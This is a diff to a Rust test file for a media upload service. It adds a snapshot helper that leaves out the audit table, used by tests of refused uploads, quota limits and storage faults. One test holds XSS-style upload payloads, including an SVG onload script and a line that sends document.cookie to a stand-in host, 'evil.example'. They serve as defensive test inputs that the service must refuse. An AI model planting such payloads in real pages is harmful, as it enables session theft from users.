@@ -353,7 +353,7 @@ async fn if_none_match_with_the_etag_answers_304_without_the_body() {
 #[tokio::test]
 async fn html_svg_and_scripts_are_refused_whatever_they_are_declared_as_and_nothing_is_stored() {
     let (_dir, p, s) = serving(|_| {}).await;
-    let before = p.store.snapshot().unwrap();
+    let before = data_snapshot(&p);
     let html = b"<html><script>fetch('/api/v1/accounts')</script></html>".to_vec();
     let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>".to_vec();
     let js = b"document.location='https://evil.example/?c='+document.cookie".to_vec();
@@ -383,7 +383,7 @@ async fn html_svg_and_scripts_are_refused_whatever_they_are_declared_as_and_noth
     let a = upload(&s, "acc", "", &png(100, 1));
     assert_eq!(a.status, 400);
     assert_eq!(
-        p.store.snapshot().unwrap(),
+        data_snapshot(&p),
         before,
         "no refused upload stored anything"
     );
@@ -403,7 +403,7 @@ async fn an_upload_past_the_quota_stores_nothing_and_a_delete_frees_the_quota() 
     let a_url = up.json()["url"].as_str().unwrap().to_string();
     let a_id = sha256_hex(&a);
 
-    let before = p.store.snapshot().unwrap();
+    let before = data_snapshot(&p);
     let refused = upload(&s, "acc", "image/png", &b);
     assert_eq!(refused.status, 429);
     assert_eq!(refused.error_code(), "quota_exceeded");
@@ -412,7 +412,7 @@ async fn an_upload_past_the_quota_stores_nothing_and_a_delete_frees_the_quota() 
         "{}",
         refused.error_message()
     );
-    assert_eq!(p.store.snapshot().unwrap(), before, "nothing stored");
+    assert_eq!(data_snapshot(&p), before, "nothing stored");
     assert_eq!(
         fetch(&format!("{}/media/acc/{}", s.base, sha256_hex(&b)), &[]).status,
         404
@@ -602,7 +602,7 @@ async fn a_storage_fault_at_the_second_write_of_an_upload_changes_nothing() {
     let (_dir, p, s) = serving(move |o| o.backend = Some(backend)).await;
     let bytes = png(3 * CHUNK_BYTES as usize, 6);
 
-    let before = p.store.snapshot().unwrap();
+    let before = data_snapshot(&p);
     faulty.writes.store(0, Ordering::SeqCst);
     faulty.fail_at.store(2, Ordering::SeqCst);
     let failed = upload(&s, "acc", "image/png", &bytes);
@@ -610,7 +610,7 @@ async fn a_storage_fault_at_the_second_write_of_an_upload_changes_nothing() {
     assert_eq!(failed.status, 503);
     assert_eq!(failed.error_code(), "unavailable");
     assert_eq!(
-        p.store.snapshot().unwrap(),
+        data_snapshot(&p),
         before,
         "the failed upload left nothing"
     );
@@ -628,4 +628,15 @@ async fn a_storage_fault_at_the_second_write_of_an_upload_changes_nothing() {
         admin_get(&s, "/accounts/acc/media/quota").json()["bytes"],
         bytes.len() as u64
     );
+}
+
+/// Every stored record but the audit log's: a refused request is still an audited attempt, and
+/// these tests are about the data it would have changed.
+fn data_snapshot(p: &plaza_host::platform::Platform) -> Vec<(String, Vec<u8>, Vec<u8>)> {
+    p.store
+        .snapshot()
+        .unwrap()
+        .into_iter()
+        .filter(|(table, _, _)| table != "audit")
+        .collect()
 }
